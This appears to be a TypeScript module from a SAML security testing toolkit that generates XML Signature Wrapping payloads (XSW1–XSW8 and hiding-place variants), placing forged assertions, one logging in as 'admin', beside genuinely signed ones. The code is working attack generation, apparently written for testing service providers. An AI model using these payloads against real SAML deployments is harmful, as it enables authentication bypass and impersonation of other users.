// XSW1–XSW8 (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012)
// and the other hiding places of a signed assertion next to a forged one.
import { NS, wrapSignedAssertion } from '@samlbridge/protocol';
import type { Document, Element } from '@xmldom/xmldom';
import { assertionOf, child, cloneEl, dsObject, evilAssertion, insertAfter, parse, root, serialize, signatureOf } from './dom.js';
import type { Genuine } from './types.js';

/**
 * XSW1 and XSW2's raw material: a copy of the signed Response as the evil one (ID `_evilResponse`, the evil assertion
 * in place of the genuine one, the original signature kept), and the original Response without its signature.
 */
function evilResponseBesideSigned(g: Genuine) {
  const doc = parse(g.issue({ signing: 'response' }));
  const original = root(doc);
  const evil = cloneEl(original);
  evil.setAttribute('ID', '_evilResponse');
  const sig = signatureOf(evil);
  const evilAssertionEl = child(evil, NS.assertion, 'Assertion');
  evil.replaceChild(evilAssertion(evilAssertionEl), evilAssertionEl);
  const originalCopy = cloneEl(original);
  originalCopy.removeChild(signatureOf(originalCopy));
  return { doc, evil, sig, originalCopy };
}

/** XSW1: a new (evil) Response; the original signed Response moves INTO its Signature (ds:Object). */
export function xsw1(g: Genuine): string {
  const { doc, evil, sig, originalCopy } = evilResponseBesideSigned(g);
  sig.appendChild(dsObject(doc, originalCopy));
  return serialize(evil);
}

/** XSW2: like XSW1, but the original Response sits BEFORE the Signature (a detached signature). */
export function xsw2(g: Genuine): string {
  const { evil, sig, originalCopy } = evilResponseBesideSigned(g);
  evil.insertBefore(originalCopy, sig);
  return serialize(evil);
}

/** XSW3: the evil assertion is inserted BEFORE the signed one, as a sibling. `sameId` copies the signed ID. */
export function xsw3(g: Genuine, sameId = false): string {
  return wrapSignedAssertion(g.issue({ signing: 'assertion' }), { login: 'admin', sameId });
}

/** XSW4: the evil assertion WRAPS the signed one (the signed assertion becomes its child). */
export function xsw4(g: Genuine, sameId = false): string {
  const doc = parse(g.issue({ signing: 'assertion' }));
  const signed = assertionOf(doc);
  const evil = evilAssertion(signed, sameId ? (signed.getAttribute('ID') as string) : '_evil');
  root(doc).replaceChild(evil, signed);
  evil.appendChild(signed);
  return serialize(doc);
}

/**
 * The evil assertion takes the signed one's place and carries its ORIGINAL signature; `place` puts the original
 * assertion, without its signature, somewhere else in the document (XSW5, XSW6, XSW8 differ only there).
 */
function evilWithOriginalSignature(g: Genuine, place: (doc: Document, signature: Element, original: Element) => void): string {
  const doc = parse(g.issue({ signing: 'assertion' }));
  const signed = assertionOf(doc);
  const evil = evilAssertion(signed);
  const signature = cloneEl(signatureOf(signed));
  evil.insertBefore(signature, child(evil, NS.assertion, 'Subject'));
  const original = cloneEl(signed);
  original.removeChild(signatureOf(original));
  root(doc).replaceChild(evil, signed);
  place(doc, signature, original);
  return serialize(doc);
}

/** XSW5: the evil assertion carries the ORIGINAL signature; an unsigned copy of the original is appended at the end. */
export function xsw5(g: Genuine): string {
  return evilWithOriginalSignature(g, (doc, _signature, original) => root(doc).appendChild(original));
}

/** XSW6: the evil assertion carries the original signature, and the original assertion sits inside that signature. */
export function xsw6(g: Genuine): string {
  return evilWithOriginalSignature(g, (_doc, signature, original) => signature.appendChild(original));
}

/** XSW7: the signed assertion hides in samlp:Extensions; the evil one takes its place. */
export function xsw7(g: Genuine): string {
  return hideIn(g, 'extensions');
}

/** XSW8: the evil assertion carries the original signature, whose ds:Object holds the original assertion without it. */
export function xsw8(g: Genuine): string {
  return evilWithOriginalSignature(g, (doc, signature, original) => signature.appendChild(dsObject(doc, original)));
}

/** The signed assertion hidden in Extensions / Advice / StatusDetail, a forged one in its place. */
export function hideIn(g: Genuine, where: 'extensions' | 'advice' | 'statusDetail'): string {
  const doc = parse(g.issue({ signing: 'assertion' }));
  const response = root(doc);
  const signed = assertionOf(doc);
  const evil = evilAssertion(signed);
  response.replaceChild(evil, signed);
  if (where === 'extensions') {
    const ext = doc.createElementNS(NS.protocol, 'samlp:Extensions');
    ext.appendChild(signed);
    insertAfter(response, ext, child(response, NS.assertion, 'Issuer'));
  } else if (where === 'advice') {
    const advice = doc.createElementNS(NS.assertion, 'saml:Advice');
    advice.appendChild(signed);
    evil.insertBefore(advice, child(evil, NS.assertion, 'AuthnStatement'));
  } else {
    const detail = doc.createElementNS(NS.protocol, 'samlp:StatusDetail');
    detail.appendChild(signed);
    child(response, NS.protocol, 'Status').appendChild(detail);
  }
  return serialize(doc);
}
